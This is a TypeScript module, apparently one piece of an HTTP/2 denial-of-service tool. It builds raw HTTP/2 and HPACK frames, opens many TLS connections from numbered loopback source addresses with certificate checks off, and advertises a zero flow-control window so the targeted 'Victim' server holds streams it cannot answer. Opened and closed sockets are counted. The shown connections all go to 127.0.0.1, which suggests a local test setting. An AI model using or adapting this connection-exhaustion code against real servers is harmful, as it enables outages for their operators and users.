import { Buffer } from "node:buffer";
import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import type { Tally, Victim } from "./types.ts";

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/** Frame types (RFC 9113, section 6). */
export const Type = { headers: 1, rstStream: 3, settings: 4, ping: 6, windowUpdate: 8 } as const;
/** Flags for a request without a body and with a complete head. */
const WHOLE = 0x5;
/** SETTINGS with a zero window: the server may send no body before an update. */
const NO_WINDOW = Buffer.of(0, 4, 0, 0, 0, 0);

/** Returns a frame. */
export function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Returns a GET with all fields as literals (RFC 7541, section 6.2.2). */
export function get({ host }: Victim, path: string, stream: number): Buffer {
  const literal = (index: number, value: string) => [index, value.length, ...Buffer.from(value)];
  // GET and https are in the static table, and so are the names for path and authority.
  const block = Buffer.from([0x82, 0x87, ...literal(0x04, path), ...literal(0x01, host)]);
  return frame(Type.headers, WHOLE, stream, block);
}

/**
 * Opens a TLS connection from a numbered address, with streams that accept no data. Returns null when it is refused.
 */
export function dialHttp2(victim: Victim, address: number, tally: Tally): Promise<Socket | null> {
  return new Promise((resolve) => {
    const localAddress = `127.0.${1 + (address >> 8)}.${address & 255}`;
    const plain = connect({ port: victim.port, host: "127.0.0.1", localAddress, noDelay: true });
    const socket = connectTls({ socket: plain, ALPNProtocols: ["h2"], rejectUnauthorized: false });
    socket.once("secureConnect", () => {
      tally.opened++;
      socket.write(Buffer.concat([Buffer.from(PREFACE), frame(Type.settings, 0, 0, NO_WINDOW)]));
      resolve(socket);
    });
    socket.on("error", () => resolve(null));
    socket.once("close", () => tally.ended++);
    socket.resume();
  });
}
